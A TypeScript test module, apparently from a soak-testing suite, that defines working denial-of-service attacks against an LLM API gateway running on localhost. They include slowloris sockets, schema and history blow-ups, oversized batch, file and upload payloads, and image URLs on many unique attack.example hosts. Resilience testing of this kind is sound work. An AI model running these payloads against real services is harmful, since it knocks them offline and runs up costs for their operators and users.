import { connect, type Socket } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import { Agent, FormData, request } from 'undici'
import type { Account } from '../soak/console.ts'

export type Target = {
  readonly origin: string
  /** A user with a large wallet who attacks, and the key of one with an empty one. */
  readonly attacker: Account
  readonly key: string
  readonly poorKey: string
}

/** Begins an attack; the returned function ends it. */
type Attack = (target: Target) => Promise<() => Promise<void>>

const from = (at: number): string => `127.0.9.${1 + (at % 4)}`
const json = (value: object): string => JSON.stringify(value)
const list = <T>(n: number, make: (at: number) => T): T[] => Array.from({ length: n }, (_, at) => make(at))

/** Opens connections from four addresses that send the same beginning, and a byte a second after it. */
const sockets =
  (count: number, head: string, drip: string): Attack =>
  async ({ origin }) => {
    const { port } = new URL(origin)
    const opened = list(count, (at): Socket => {
      const socket = connect({ port: Number(port), host: '127.0.0.1', localAddress: from(at) })
      socket.on('error', () => undefined)
      socket.on('connect', () => void socket.write(head))
      return socket
    })
    const timer = setInterval(() => {
      if (drip !== '') for (const socket of opened) if (socket.writable) socket.write(drip)
    }, 1000)
    return async () => {
      clearInterval(timer)
      for (const socket of opened) socket.destroy()
    }
  }

type Call = { readonly path: string; readonly body: string | FormData; readonly key: string }

/** Between two calls: without it the attack would be the load of its own calls. */
const PAUSE_MS = 250

/** Repeats calls, so many at once, until it is stopped. Their answers do not matter. */
const calls =
  (atOnce: number, make: (target: Target, nth: number) => Call): Attack =>
  async (target) => {
    const agent = new Agent({ localAddress: from(0), connections: atOnce, headersTimeout: 60_000 })
    const stop = new AbortController()
    let nth = 0
    const repeat = async (): Promise<void> => {
      while (!stop.signal.aborted) {
        nth += 1
        await send(target, agent, make(target, nth), stop.signal).catch(() => undefined)
        await wait(PAUSE_MS)
      }
    }
    const running = list(atOnce, repeat)
    return async () => {
      stop.abort()
      await Promise.all(running)
      await agent.destroy()
    }
  }

async function send({ origin }: Target, agent: Agent, { path, body, key }: Call, signal?: AbortSignal): Promise<unknown> {
  const isText = typeof body === 'string'
  const answer = await request(`${origin}${path}`, {
    method: 'POST',
    dispatcher: agent,
    headers: { ...(isText ? { 'content-type': 'application/json' } : {}), authorization: `Bearer sk-${key}` },
    body,
    ...(signal === undefined ? {} : { signal }),
  })
  const text = await answer.body.text()
  return text.startsWith('{') ? JSON.parse(text) : text
}

/** Streams of the playground that last as long as the model writes, more than one user may have. */
const playground: Attack = async ({ origin, attacker: { username, password } }) => {
  const agent = new Agent({ localAddress: from(0), connections: 64 })
  const post = (path: string, body: object, headers: Record<string, string> = {}) =>
    request(`${origin}${path}`, {
      method: 'POST',
      dispatcher: agent,
      headers: { 'content-type': 'application/json', ...headers },
      body: json(body),
    })
  const signedIn = await post('/api/user/login', { username, password })
  const { data } = (await signedIn.body.json()) as { data: { id: number } } // the console's envelope
  const cookie = [signedIn.headers['set-cookie'] ?? []].flat().map((line) => line.split(';')[0])
  const headers = { cookie: cookie.join('; '), 'New-Api-User': String(data.id) }
  const stop = { isStopped: false }
  const read = async (): Promise<void> => {
    while (!stop.isStopped) {
      const { body } = await post('/pg/chat/completions', STREAM, headers)
      await body.dump({ limit: Number.MAX_SAFE_INTEGER })
      await wait(REFUSED_MS)
    }
  }
  const running = list(64, () => read().catch(() => undefined))
  return async () => {
    stop.isStopped = true
    await agent.destroy()
    await Promise.all(running)
  }
}

const STREAM = { model: 'sse200', stream: true, group: '', messages: [{ role: 'user', content: 'hi' }] }
const REFUSED_MS = 2000

/** Twelve levels of ten references each: 10^12 nodes written out. */
function fanOut(): object {
  const $defs = Object.fromEntries(
    list(12, (level) => [
      `l${level}`,
      {
        type: 'object',
        properties: Object.fromEntries(list(10, (at) => [`p${at}`, level < 11 ? { $ref: `#/$defs/l${level + 1}` } : { type: 'string' }])),
      },
    ]),
  )
  return { type: 'object', properties: { p: { $ref: '#/$defs/l0' } }, $defs }
}

const schemas = calls(2, ({ key }) => ({
  path: '/v1/chat/completions',
  key,
  body: json({
    model: 'gemini-1.5-pro',
    messages: [{ role: 'user', content: 'x' }],
    tools: [{ type: 'function', function: { name: 'look', parameters: fanOut() } }],
  }),
}))

const TURNS = json({
  model: 'gemini-1.5-pro',
  messages: list(12_001, (at) => ({ role: at % 2 === 0 ? 'user' : 'assistant', content: 'x' })),
})
const histories = calls(1, ({ key }) => ({ path: '/v1/chat/completions', key, body: TURNS }))

const names = calls(30, ({ key }, nth) => ({
  path: '/v1/chat/completions',
  key,
  body: json({
    model: 'gemini-1.5-pro',
    messages: [
      { role: 'user', content: list(16, (at) => ({ type: 'image_url', image_url: { url: `http://n${nth}-${at}.attack.example/a.png` } })) },
    ],
  }),
}))

const LONG = 'x'.repeat(7_700_000)
const background = (keyOf: (target: Target) => string): Attack =>
  calls(4, (target) => ({ path: '/v1/responses', key: keyOf(target), body: json({ model: 'calm', input: LONG, background: true }) }))

const LINES = list(50_000, (at) =>
  json({
    custom_id: `c${at}`,
    method: 'POST',
    url: '/v1/chat/completions',
    body: { model: 'calm', messages: [{ role: 'user', content: 'x' }] },
  }),
).join('\n')

const batches: Attack = async (target) => {
  const agent = new Agent({ localAddress: from(0) })
  const { key } = target
  const ids: string[] = []
  for (let made = 0; made < 3; made += 1) {
    const form = new FormData()
    form.append('purpose', 'batch')
    form.append('file', new File([LINES], 'in.jsonl'))
    const { id } = (await send(target, agent, { path: '/v1/files', body: form, key })) as { id: string } // the API's shape
    const body = json({ input_file_id: id, endpoint: '/v1/chat/completions', completion_window: '24h' })
    ids.push(((await send(target, agent, { path: '/v1/batches', body, key })) as { id: string }).id)
  }
  return async () => {
    for (const id of ids) await send(target, agent, { path: `/v1/batches/${id}/cancel`, body: '{}', key })
    await agent.close()
  }
}

/** Stores a file of a prompt, and returns its id. */
async function storeFile(target: Target, bytes: number): Promise<string> {
  const agent = new Agent({ localAddress: from(0) })
  const form = new FormData()
  form.append('purpose', 'user_data')
  form.append('file', new File([Buffer.alloc(bytes, 'x')], 'a.txt'))
  const { id } = (await send(target, agent, { path: '/v1/files', body: form, key: target.key })) as { id: string } // the API's shape
  await agent.close()
  return id
}

/** Short bodies that become 30 MB, because they name twenty files. */
const files: Attack = async (target) => {
  const id = await storeFile(target, 1_500_000)
  const content = list(20, () => ({ type: 'input_file', file_id: id }))
  const body = json({ model: 'calm', input: [{ role: 'user', content }] })
  return await calls(4, ({ key }) => ({ path: '/v1/responses', key, body }))(target)
}

/** Parts of an upload that is never completed. */
const uploads: Attack = async (target) => {
  const agent = new Agent({ localAddress: from(0) })
  const asked = json({ filename: 'a.txt', mime_type: 'text/plain', purpose: 'user_data', bytes: 60_000_000 })
  const made = (await send(target, agent, { path: '/v1/uploads', body: asked, key: target.key })) as { id: string } // the API's shape
  await agent.close()
  const form = () => {
    const part = new FormData()
    part.append('data', new File([Buffer.alloc(8_000_000, 'x')], 'part'))
    return part
  }
  return await calls(4, ({ key }) => ({ path: `/v1/uploads/${made.id}/parts`, key, body: form() }))(target)
}

/** A long prompt that is refused for the price of its storage. */
const caches = calls(4, ({ key }) => ({ path: '/v1beta/cachedContents', key, body: CACHED }))
const CACHED = json({ model: 'models/gemini-1.5-pro', contents: [{ role: 'user', parts: [{ text: LONG }] }] })

/** A batch whose last request is refused, so that nothing of it is stored. */
const longBatches = calls(4, ({ key }) => ({ path: '/v1beta/models/gemini-1.5-pro:batchGenerateContent', key, body: BATCH }))
const REQUESTS = [...list(49_999, () => ({ request: { contents: [{ parts: [{ text: 'x'.repeat(100) }] }] } })), {}]
const BATCH = json({ batch: { inputConfig: { requests: { requests: REQUESTS } } } })

/** Keyed by name; each begins beside a user who goes on working. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  'slow-bodies': sockets(600, 'POST /api/user/login HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\nx', 'x'),
  'slow-readers': sockets(600, 'GET / HTTP/1.1\r\nHost: x\r\n\r\n', ''),
  playground,
  names,
  schemas,
  histories,
  'background-poor': background(({ poorKey }) => poorKey),
  'background-rich': background(({ key }) => key),
  batches,
  files,
  uploads,
  caches,
  'long-batches': longBatches,
}
